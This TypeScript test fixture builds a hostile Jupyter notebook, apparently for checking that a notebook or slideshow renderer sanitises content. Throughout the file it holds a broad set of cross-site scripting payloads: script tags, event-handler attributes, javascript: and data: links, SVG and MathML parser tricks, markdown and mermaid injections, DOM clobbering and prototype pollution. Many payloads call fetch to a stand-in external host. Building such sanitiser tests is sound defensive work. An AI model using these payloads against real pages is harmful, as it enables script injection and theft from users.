/** A notebook that tries everything to run a script, load something or take over the page. */
const RUN = "globalThis.hostileRan=1";
const TAKE = `${RUN};fetch('http://198.51.100.1/x')`;

const HTML = [
  `<script>${TAKE}</script>`,
  `<ScRiPt src="http://198.51.100.1/x.js"></ScRiPt>`,
  `<img src=x onerror="${TAKE}">`,
  `<img src="http://198.51.100.1/pixel.png">`,
  `<svg/onload="${TAKE}">`,
  `<svg><script>${TAKE}</script></svg>`,
  `<svg><style><img src=x onerror="${TAKE}"></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${TAKE}"></style></mglyph></table></mtext></math>`,
  `<iframe srcdoc="<script>parent.hostileRan=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}">go</button></form>`,
  `<a href="javascript:${RUN}">one</a><a href=" java\tscript:${RUN}">two</a><a href="data:text/html,<script>${RUN}</script>">three</a>`,
  `<a href="vbscript:x">four</a><base href="http://198.51.100.1/"><link rel="stylesheet" href="http://198.51.100.1/x.css">`,
  `<meta http-equiv="refresh" content="0;url=http://198.51.100.1/">`,
  `<style>body{display:none!important;background:url(http://198.51.100.1/)}</style>`,
  `<div style="position:fixed;inset:0;background:url(http://198.51.100.1/)">cover</div>`,
  `<details open ontoggle="${TAKE}"><summary>x</summary></details>`,
  `<input autofocus onfocus="${TAKE}"><video><source onerror="${TAKE}"></video>`,
  `</section></div></main><script>${TAKE}</script>`,
  `<section id="inner" data-background-iframe="javascript:${RUN}">inner</section>`,
  `<template><script>${TAKE}</script></template><noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<b id="Reveal" name="deck:search" class="fragment speaker">clobber</b><form id="location"></form>`,
];

const SVG = [
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="${TAKE}"><script>${TAKE}</script><rect width="9" height="9" onclick="${TAKE}"/></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${TAKE}"/></body></foreignObject></svg>`,
  `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:${RUN}"><text y="9">x</text></a><use href="http://198.51.100.1/x.svg#a"/><image href="http://198.51.100.1/x.png"/></svg>`,
  `<svg><animate attributeName="href" values="javascript:${RUN}"/><set attributeName="onload" to="${RUN}"/></svg>`,
  `<svg><style>@import url(http://198.51.100.1/x.css);*{fill:url(http://198.51.100.1/)}}body{display:none}</style><title></title><img src=x onerror="${TAKE}"></svg>`,
  `<!DOCTYPE svg [<!ENTITY x "<script>${RUN}</script>">]><svg><text>&x;</text></svg>`,
  `<svg><desc><![CDATA[</desc><script>${RUN}</script>]]></desc></svg>`,
];

const MARKDOWN = [
  `[one](javascript:${RUN}) [two](JAVASCRIPT:${RUN}) [three](data:text/html;base64,PHNjcmlwdD4=) <javascript:${RUN}>`,
  `![x](http://198.51.100.1/x.png) ![y](javascript:${RUN}) ![p](/etc/passwd) ![q](../../../../etc/hosts.png)`,
  `[ref]: javascript:${RUN}\n\n[ref]`,
  `$\\href{javascript:${RUN}}{x}$ $\\url{javascript:${RUN}}$ $\\includegraphics{http://198.51.100.1/x.png}$ $\\htmlData{x=y}{z}$`,
  "```ts\n</code></pre><script>" + TAKE + "</script>\n```",
  "```mermaid\ngraph TD\n  a[\"<img src=x onerror='" + RUN +
  '\'>"] --> b\n  click a "javascript:' + RUN + '"\n```',
  `[^1]\n\n[^1]: <img src=x onerror="${TAKE}">`,
  `# <img src=x onerror="${TAKE}"> heading`,
];

let count = 0;

function cell(
  type: string,
  source: string,
  extra: Record<string, unknown> = {},
) {
  return {
    cell_type: type,
    id: `hostile-${++count}`,
    metadata: { slideshow: { slide_type: "slide" } },
    source,
    ...extra,
  };
}

function display(mediaType: string, form: unknown) {
  return {
    output_type: "display_data",
    metadata: {},
    data: { [mediaType]: form },
  };
}

/** The hostile notebook as the text of its file. */
export function hostileNotebook(): string {
  const evil = `"><script>${TAKE}</script><img src=x onerror=${RUN}>`;
  const code = (outputs: unknown[], source = "x") =>
    cell("code", source, { outputs, execution_count: null });
  const cells = [
    ...HTML.map((html) => cell("markdown", `text ${html}\n\n${html}`)),
    ...MARKDOWN.map((text) => cell("markdown", text)),
    ...HTML.map((html) => code([display("text/html", html)])),
    ...SVG.map((svg) => code([display("image/svg+xml", svg)])),
    ...SVG.map((svg) => code([display("text/html", svg)])),
    ...SVG.map((svg) => cell("markdown", svg)),
    ...HTML.map((html) => code([display("text/markdown", html)])),
    code([display("image/png", `"><script>${TAKE}</script>`)]),
    code([display("text/latex", `$\\href{javascript:${RUN}}{x}$`)]),
    code([display("application/javascript", TAKE)]),
    code([display("application/json", { "</script><script>": TAKE })]),
    code([{
      output_type: "error",
      ename: evil,
      evalue: evil,
      traceback: [evil],
    }]),
    code([{
      output_type: "stream",
      name: "stdout",
      text: `${evil}\x1b]8;;javascript:${RUN}\x07link\x1b]8;;\x07`,
    }], evil),
    {
      ...code([]),
      metadata: {
        tags: [evil],
        slideshow: { slide_type: evil },
        slides: {
          title: evil,
          alt: evil,
          background: `url(http://198.51.100.1/)`,
          transition: evil,
          fragment: evil,
          lines: evil,
          __proto__: { polluted: 1 },
        },
      },
    },
    {
      ...cell("markdown", "![a](attachment:x.png)"),
      attachments: { "x.png": { "image/png": `"><script>${TAKE}</script>` } },
    },
    {
      ...cell("raw", `<script>${TAKE}</script>`),
      metadata: { raw_mimetype: "text/html" },
    },
    {
      ...cell("markdown", `<script>${TAKE}</script> note`),
      metadata: { slideshow: { slide_type: "notes" } },
    },
  ];
  return JSON.stringify({
    cells,
    metadata: {
      title: evil,
      authors: [{ name: evil }],
      language_info: { name: evil },
      slides: {
        author: evil,
        date: evil,
        theme: evil,
        language: `en" onload="${RUN}`,
        summary: evil,
      },
    },
    nbformat: 4,
    nbformat_minor: 5,
  });
}
